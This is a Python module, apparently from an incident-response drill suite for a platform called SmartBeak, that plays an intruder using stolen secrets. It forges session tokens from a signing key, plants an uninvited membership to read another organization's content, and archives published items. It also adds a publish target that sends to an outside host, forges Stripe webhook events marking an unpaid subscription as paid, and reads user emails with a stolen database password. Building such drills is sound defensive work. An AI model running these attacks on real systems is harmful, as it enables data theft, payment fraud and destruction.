"""An intruder: uses a stolen secret, does harm with it, and goes on as long as it is taken.

    python3 -m smartbeak_drills.intruder --config FILE key|session|member|webhook|login

The client behind the fault `intrude`. With the key that signs tokens, or with an
administrator's session, it lists the content of an organization, reads some and archives
some; with a session it also makes a publish target that leads to a place of its own. As a
member whom nobody invited it only reads, in an organization that is not its own. With
Stripe's webhook secret it forges events. With the platform's login it reads who the users are,
on a session that it keeps open. It prints `in` once that is done.
"""

from __future__ import annotations

import argparse
import sys
import threading
import time
import uuid
from collections.abc import Sequence
from pathlib import Path

from drillbook.inside.trouble import Trouble
from smartbeak_drills import settings
from smartbeak_drills.agreed import VICTIM
from smartbeak_drills.clients import ended_by_signal
from smartbeak_drills.loot import NEIGHBOUR, Loot, session
from smartbeak_drills.places import API_URL, KEY, PRIMARY, REPLICA, WEB_URL
from smartbeak_drills.session import Session, SessionError, conninfo
from smartbeak_drills.users.calls import CallError, Line
from smartbeak_drills.users.webhooks import SECRETS, stripe_event, stripe_headers

READ, ARCHIVED = 8, 3
ELSEWHERE = "https://collect.example.net"
"""Where the target leads that the intruder makes."""

DOMAIN, NEIGHBOURS = "dom_2", "dom_3"
"""Of the organization whose administrator it is, and of the one that it only reads."""

UNPAID = "sub_example4"
"""A subscription that is past due: forged events say that it is paid."""

ROLE = "smartbeak"
"""Role of the database whose login is stolen."""

PASSWORD = Path("/run/secrets/smartbeak")
CLIENT = "psql"
"""What the intruder's sessions are called."""

_AGAIN_S = 2.0
USERS = "SELECT id, email FROM users ORDER BY id"
"""What its session asks again and again."""
_ENTER = """
INSERT INTO memberships (user_id, org_id, role) VALUES ($1, $2, 'viewer') RETURNING role
"""


def break_in(line: Line, config: Path, kind: str) -> Loot:
    """Does what an intruder does in the API.

    Raises:
        Trouble: It is not let in.
    """
    key = settings.secret(KEY).read_bytes().strip()
    audience, issuer = (settings.read(config, name) for name in ("JWT_AUDIENCE", "JWT_ISSUER"))
    if kind == "key":
        loot = Loot("key", key.decode(), audience, issuer)
    elif kind == "member":
        with Session(settings.read_address(config), timeout_s=30.0) as database:
            database.run(_ENTER, VICTIM, NEIGHBOUR)
        loot = Loot("member", session(key, audience, issuer, NEIGHBOUR))
    else:
        loot = Loot("session", session(key, audience, issuer))
    domain = NEIGHBOURS if kind == "member" else DOMAIN
    path = f"/v1/content?domainId={domain}&status=published&limit=20"
    items = line.call("GET", path, token=loot.token()).body["data"]
    pieces = tuple(str(item["id"]) for item in items)
    for piece in pieces[:READ]:
        line.call("GET", f"/v1/content/{piece}", token=loot.token())
    if kind == "member":
        return Loot(loot.kind, loot.value, audience, issuer, pieces[:READ])
    for piece in pieces[:ARCHIVED]:
        line.call("DELETE", f"/v1/content/{piece}", token=loot.token())
    target = ""
    if kind == "session":
        wanted = {"type": "wordpress", "config": {"url": ELSEWHERE}}
        path = f"/v1/publishing/targets?domainId={DOMAIN}"
        made = line.call("POST", path, token=loot.token(), body=wanted)
        target = str(made.body["id"])
    return Loot(loot.kind, loot.value, audience, issuer, pieces[:ARCHIVED], target)


def forge(line: Line, loot: Loot, kind: str = "customer.subscription.updated") -> None:
    """Forges an event of Stripe that says of somebody who did not pay that they did.

    Raises:
        CallError: It was not taken.
    """
    about = {"id": UNPAID, "customer": "cus_example4", "status": "active"}
    body = stripe_event(f"evt_forged_{uuid.uuid4().hex[:8]}", kind, about, int(time.time()))
    headers = stripe_headers(loot.value.encode(), body, int(time.time()))
    line.send("/api/webhooks/stripe", body, headers)


def go_on(line: Line, loot: Loot, stop: threading.Event) -> None:
    """Uses it again and again; whether it is still taken is for others to say."""
    while not stop.wait(_AGAIN_S):
        try:
            if loot.kind == "webhook":
                forge(line, loot)
            else:
                line.call("GET", f"/v1/content/{loot.pieces[0]}", token=loot.token())
        except CallError:
            continue


def read_users(
    stolen: Loot, hosts: Sequence[str], stop: threading.Event, held: dict[str, Session]
) -> None:
    """Reads at each database host what the role may read, and keeps the sessions open.

    Args:
        stolen: What it logs in with.
        hosts: Database hosts.
        stop: Ends it.
        held: Sessions that are open already, by host.
    """
    while not stop.wait(_AGAIN_S):
        for host in hosts:
            try:
                if host not in held:
                    held[host] = log_in(stolen, host)
                held[host].run(USERS)
            except SessionError:
                if gone := held.pop(host, None):
                    gone.close()
    for each in held.values():
        each.close()


def log_in(stolen: Loot, host: str) -> Session:
    """A session with the stolen password.

    Raises:
        SessionError: It is refused.
    """
    address = f"host={host} dbname=smartbeak application_name={CLIENT}"
    return Session(conninfo(address, user=ROLE, password=stolen.value), timeout_s=2.0)


def main(argv: Sequence[str] | None = None) -> int:
    """Breaks in and stays until SIGTERM; returns the exit status."""
    parser = argparse.ArgumentParser(
        prog="smartbeak_drills.intruder", description=__doc__.split("\n")[0]
    )
    parser.add_argument("--config", required=True, type=Path, help="the platform's configuration")
    parser.add_argument("kind", choices=["key", "session", "member", "webhook", "login"])
    options = parser.parse_args(argv)
    stop = ended_by_signal()
    if options.kind == "login":
        return _with_login(stop)
    try:
        if options.kind == "webhook":
            line = Line(WEB_URL, timeout_s=30.0)
            secret = settings.secret(SECRETS / "stripe-webhook").read_text().strip()
            loot = Loot("webhook", secret)
            forge(line, loot)
        else:
            line = Line(API_URL, timeout_s=30.0)
            loot = break_in(line, options.config, options.kind)
    except Trouble as error:
        print(f"intruder: {error.text}", file=sys.stderr)
        return 1
    loot.keep()
    print("in", flush=True)
    go_on(line, loot, stop)
    line.close()
    return 0


def _with_login(stop: threading.Event) -> int:
    stolen = Loot("login", PASSWORD.read_text(encoding="utf-8").strip())
    held: dict[str, Session] = {}
    try:
        # It stays from now on: evidence that is taken at once must find it.
        held[PRIMARY] = log_in(stolen, PRIMARY)
        held[PRIMARY].run(USERS)
    except SessionError as error:
        print(f"intruder: {error.text}", file=sys.stderr)
        return 1
    stolen.keep()
    print("in", flush=True)
    read_users(stolen, (PRIMARY, REPLICA), stop, held)
    return 0


if __name__ == "__main__":
    sys.exit(main())
